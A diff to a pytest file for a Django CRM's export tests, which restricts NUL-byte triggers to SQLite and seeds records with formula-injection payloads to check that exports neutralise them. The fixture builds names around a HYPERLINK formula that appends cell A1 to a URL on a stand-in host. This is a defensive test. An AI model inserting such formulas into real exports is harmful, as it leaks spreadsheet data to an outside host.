@@ -97,13 +97,21 @@ def exporting_list_urls() -> list[str]:
     return sorted(set(found))
 
 
+def stored_triggers() -> tuple[str, ...]:
+    """PostgreSQL cannot store NUL in text at all (forms and the API refuse it as bad input before it gets there);
+    SQLite stores it, so there the exports must neutralise it too."""
+    from django.db import connection
+
+    return TRIGGERS if connection.vendor == "sqlite" else tuple(t for t in TRIGGERS if t != "\0")
+
+
 @pytest.fixture
 def poisoned(org: dict[str, Any]) -> dict[str, Any]:
     """Names and notes starting with every trigger, on the records the exports list."""
     from pharmacrm.customers import services as customers
     from pharmacrm.org.models import Division
 
-    for index, trigger in enumerate(TRIGGERS):
+    for index, trigger in enumerate(stored_triggers()):
         institution = customers.create_institution(
             actor=org["steward"], name=f"{trigger}HYPERLINK(\"http://x.example/?\"&A1,\"医院{index}\")",
             kind="clinic", status="active", division=Division.objects.get(pk="310104"), owner=org["rep_east"])
@@ -126,7 +134,7 @@ def test_every_export_neutralises_formulas(poisoned: dict[str, Any]) -> None:
         rows_seen += len(rows) - 1
         failures += [f"{url}: {cell!r}" for row in rows[1:] for cell in row if injected(cell)]
     assert not failures, "formula cells in exports:\n" + "\n".join(failures)
-    assert rows_seen >= len(TRIGGERS) * 2  # the poisoned institutions and contacts were exported
+    assert rows_seen >= len(stored_triggers()) * 2  # the poisoned institutions and contacts were exported
 
 
 def test_the_check_notices_unescaped_cells(monkeypatch: pytest.MonkeyPatch) -> None:
